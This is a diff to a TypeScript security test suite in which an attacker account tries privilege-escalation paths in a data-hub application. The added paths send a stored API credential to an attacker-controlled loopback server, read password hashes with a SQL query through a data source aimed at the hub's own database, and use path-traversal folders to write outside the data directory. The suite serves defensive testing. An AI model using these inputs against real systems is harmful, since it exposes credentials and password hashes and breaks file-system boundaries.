@@ -8,7 +8,18 @@ import { changePassword, login } from '../../../src/shared/contract/platform/ses
 import { promotionApply } from '../../../src/shared/contract/promotion/endpoints'
 import { PROMOTION_FORMAT_VERSION } from '../../../src/shared/contract/promotion/document'
 import { allPermissionCodes } from '../../../src/hub/store/seed/roles'
+import { existsSync } from 'node:fs'
+import { join } from 'node:path'
+import * as consumer from '../../../src/shared/contract/datahub/consumer'
+import * as producer from '../../../src/shared/contract/datahub/producer'
+import { producerServerApi } from '../../../src/shared/contract/datahub/runtime'
+import { topicCreate } from '../../../src/shared/contract/datahub/topic'
+import { datasourceCreate } from '../../../src/shared/contract/datahub/dataSources'
+import { producerPreviewSqlData } from '../../../src/shared/contract/datahub/sqlTools'
+import { widgetPreview } from '../../../src/shared/contract/dashboards/widgets'
+import type { DeliveryWorker } from '../../../src/hub/runtime/queue/worker'
 import type { CallBench } from '../../support/bench'
+import type { Sink } from '../../integration/runtime/support'
 import type { CasServer } from '../../support/casServer'
 import type { Answer } from '../../support/hub'
 
@@ -40,6 +51,19 @@ export interface Fixtures {
   sysAuthId: string
   appCode: string
   cas: CasServer
+  /** An HTTP server on loopback that the attacker's consumers may point at. */
+  sink: Sink
+  /** The hub's delivery worker, ticked by the paths that push. */
+  worker: DeliveryWorker
+  /** An API authentication of application `app` (not the attacker's to use), and its secret. */
+  credential: { id: string; app: string; secret: string }
+  /** A folder outside the hub's data directory that no consumer may write into. */
+  outside: string
+  /**
+   * On a PostgreSQL hub: the hub's own database, and a data source an administrator pointed at
+   * it (its name; refused at creation is as good). null on SQLite (sqliteSourceLocation.test.ts).
+   */
+  ownStore: { database: string; source: string } | null
 }
 
 export interface PathContext {
@@ -80,6 +104,26 @@ async function forgeAppToken(ctx: PathContext, secret: string): Promise<void> {
   const uid = ctx.fixtures.adminEmail
   const token = tokenOf(await ctx.bench.send(ssoTokenLogin, { uid, timestamp, token: sign(secret, uid, timestamp) }, { token: null }))
   if (token) ctx.obtained(token)
+}
+
+/**
+ * As the attacker: a topic with a running serverApi producer and one running consumer made of
+ * `settings`, then one anonymous push of `data`, delivered. False when the attacker may not.
+ */
+async function pushThrough(ctx: PathContext, settings: Record<string, unknown>, data: unknown): Promise<boolean> {
+  const { bench, attacker } = ctx
+  const as = { token: attacker.token }
+  const code = `mx.${fresh()}`
+  if (!ok(await bench.send(topicCreate, { code, name: 'matrix' }, as))) return false
+  const made = await bench.send<{ id: string }>(consumer.consumerCreate, { topicCode: code, ...settings }, as)
+  if (!ok(made) || !ok(await bench.send(consumer.consumerStatus, { id: made.body.data!.id }, as))) return false
+  const source = await bench.send<{ id: string }>(producer.producerCreate, { topicCode: code, appCode: 'crm', productionMode: 'serverApi', apiRequestInfoModel: { apiAddr: '/producer/serverApi' } }, as)
+  if (!ok(source) || !ok(await bench.send(producer.producerDisableOrEnable, { id: source.body.data!.id }, as))) return false
+  if (!ok(await bench.send(producerServerApi, { topicCode: code, data }, { token: null }))) return false
+  // Two ticks: the delivery is claimed and tried; a retry would wait far longer than this path.
+  await ctx.fixtures.worker.tick()
+  await ctx.fixtures.worker.tick()
+  return true
 }
 
 export const escalationPaths: readonly EscalationPath[] = [
@@ -136,6 +180,47 @@ export const escalationPaths: readonly EscalationPath[] = [
       for (const user of ['admin', `newcomer${fresh()}`]) {
         const token = tokenOf(await bench.send(ssoLogin, { ticket: fixtures.cas.issue(user, service), service, validateUrl: fixtures.cas.url }, { token: null }))
         if (token) ctx.obtained(token)
+      }
+    },
+  },
+  {
+    name: 'consumer: a stored API credential sent to a server of its own',
+    async attempt(ctx) {
+      const { credential, sink } = ctx.fixtures
+      const path = `/leak-${ctx.attacker.id}`
+      // The consumer names the credential's own application: the worst case for the rule.
+      const settings = { applicationCode: credential.app, dataConsumeType: 'http', httpRequestInfoModel: { requestUri: `${sink.url}${path}`, requestMethod: 'POST', authenStatus: '1', authenId: credential.id } }
+      if (!(await pushThrough(ctx, settings, { n: 1 }))) return
+      if (sink.at(path).some((r) => JSON.stringify(r.headers).includes(credential.secret))) ctx.reached(`the credential of ${credential.app} arrived at its own server`)
+    },
+  },
+  {
+    name: 'data source on the hub\'s own database: the password hashes through a preview or a widget',
+    holders: [['datahub:datasource', 'datahub:topic']],
+    async attempt(ctx) {
+      const { bench, fixtures, attacker } = ctx
+      if (!fixtures.ownStore) return
+      const as = { token: attacker.token }
+      const own = `self${fresh()}`
+      // localhost, not the 127.0.0.1 of the hub's own URL: the same server by another name.
+      await bench.send(datasourceCreate, { name: own, sourceType: '1', applicationCode: 'erp', dbType: 'postgresql', host: 'localhost', port: '5432', username: 'postgres', databaseName: fixtures.ownStore.database }, as)
+      const query = 'select username, password_hash from users'
+      for (const datasourceName of [own, fixtures.ownStore.source]) {
+        const preview = await bench.send(producerPreviewSqlData, { datasourceName, querySql: query, dataNum: 10 }, as)
+        if (ok(preview) && JSON.stringify(preview.body.data).includes('$argon2')) ctx.reached(`a SQL preview through ${datasourceName} read the password hashes`)
+        const widget = await bench.send(widgetPreview, { title: 'w', chartType: 'table', dataType: 'sql', dataSource: datasourceName, content: query }, as)
+        if (ok(widget) && JSON.stringify(widget.body.data).includes('$argon2')) ctx.reached(`a widget preview through ${datasourceName} read the password hashes`)
+      }
+    },
+  },
+  {
+    name: 'file consumer: a folder outside the hub\'s data directory',
+    async attempt(ctx) {
+      const absolute = join(ctx.fixtures.outside, `${ctx.attacker.id}-absolute`)
+      const climbing = join(ctx.fixtures.outside, `${ctx.attacker.id}-climbing`)
+      for (const [dir, fileDir] of [[absolute, absolute], [climbing, `${'../'.repeat(16)}${climbing.slice(1)}`]] as const) {
+        await pushThrough(ctx, { applicationCode: 'erp', dataConsumeType: 'file', fileRequestInfoModel: { fileDir, fileNameRule: '2', fileNamePrefix: 'x_' } }, { n: 1 })
+        if (existsSync(dir)) ctx.reached(`a file consumer wrote into ${dir} (fileDir ${fileDir})`)
       }
     },
   },
